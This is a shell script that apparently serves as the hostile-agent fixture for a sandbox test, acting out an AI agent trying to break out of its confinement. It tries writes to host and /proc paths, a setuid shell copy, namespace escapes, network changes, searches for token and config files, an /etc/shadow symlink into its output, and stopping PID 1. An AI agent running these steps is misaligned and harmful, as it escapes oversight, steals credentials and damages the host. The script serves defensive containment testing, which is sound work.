#!/bin/sh
# What an agent of attack_sandbox.t does; it is hostile, and runs in a sandbox
# alone.  Not in the test itself: a shell that reads a script while it is edited
# would run this text on the host.
[ "$(id -un)" = agent ] && [ -d /opt/coffer/agents ] || exit 99
exec 2>&1
# shellcheck source=/dev/null
. /opt/coffer/agents/env
# shellcheck disable=SC2086
perl /opt/coffer/agents/dial.pl $PORT $HOSTS
for f in /work/tree/x /work/tree/.git/x /usr/x /etc/x /opt/coffer/agents/x \
    /run/coffer/task/x /proc/sys/kernel/core_pattern /proc/sysrq-trigger \
    /proc/sys/net/ipv4/ip_forward; do
	(echo x >$f) 2>/dev/null && echo "WROTE $f"
done
cp /bin/sh /tmp/s && chmod 6755 /tmp/s
unshare -Ur true && echo UNSHARED
unshare -n true && echo UNSHARED
nsenter -t 1 -n true && echo ENTERED
mount -t tmpfs none /tmp && echo MOUNTED
mknod /tmp/d b 7 0 && echo MADE
ip link set eth0 down && echo CHANGED
ip addr add 10.214.1.2/32 dev eth0 && echo CHANGED
ls /work/.. /run/coffer
cd /work/tree && git push -q origin HEAD:refs/heads/agent/read && echo PUSHED
find / -xdev \( -name '*.token' -o -name coffer.conf -o -name '*.sock' \) 2>/dev/null
grep -c . /proc/self/mountinfo
echo TRIED
ln -s /etc/shadow /run/coffer/out/message.md
while [ ! -e /opt/coffer/agents/go ]; do sleep 0.1; done
kill -STOP 1
